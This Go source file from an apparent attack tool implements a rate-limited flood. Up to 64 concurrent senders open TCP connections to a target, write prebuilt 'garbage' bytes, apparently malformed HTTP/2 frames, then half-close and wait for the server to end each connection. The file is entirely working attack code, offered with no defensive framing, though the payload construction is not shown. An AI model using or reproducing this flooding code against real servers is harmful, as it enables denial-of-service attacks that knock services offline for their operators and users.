package attack

import (
	"net"
	"time"
)

// senders send garbage at a time, each on a connection of its own.
const senders = 64

// beatTime is how finely the sending is spread.
const beatTime = 10 * time.Millisecond

// mostMissed is how much sending is made up for that the process was too late for.
const mostMissed = 200 * time.Millisecond

// scatter sends garbage, so much a second.
func (a *Attack) scatter() {
	shots := a.shots()
	turns := make(chan int, senders)
	for range senders {
		a.running.Go(func() {
			for turn := range turns {
				a.shoot(&shots[turn%len(shots)])
			}
		})
	}
	a.running.Go(func() {
		defer close(turns)
		tick := time.NewTicker(beatTime)
		defer tick.Stop()
		last := time.Now()
		for turn, owed := 0, 0.0; ; {
			select {
			case <-tick.C:
			case <-a.ctx.Done():
				return
			}
			// Of what was missed only some is made up for: a long burst would be
			// another attack.
			now := time.Now()
			owed = min(owed+float64(a.cfg.Frames)*now.Sub(last).Seconds(), float64(a.cfg.Frames)*mostMissed.Seconds())
			last = now
			for ; owed > 0; owed -= float64(a.cfg.FramesPerConn) {
				select {
				case turns <- turn:
				case <-a.ctx.Done():
					return
				}
				turn++
			}
		}
	})
}

// shotTimeout bounds what a connection takes from its beginning to its end. HTTP/2
// servers take a second to end one that makes no sense.
const shotTimeout = 100 * time.Millisecond

// shoot sends something, says that no more will come, and waits a while for the
// other side to end the connection: to end it first would take back what was not
// read yet.
func (a *Attack) shoot(s *shot) {
	conn, err := a.dial(s.addr)
	if err != nil {
		a.refused.Add(1)
		return
	}
	a.opened.Add(1)
	defer func() { _ = conn.Close() }() // in whatever state it is
	if conn.SetDeadline(time.Now().Add(shotTimeout)) != nil {
		return
	}
	if _, err := conn.Write(s.bytes); err != nil {
		return
	}
	a.garbage.Add(int64(s.frames))
	if conn.(*net.TCPConn).CloseWrite() == nil {
		a.listen(conn)
	}
}
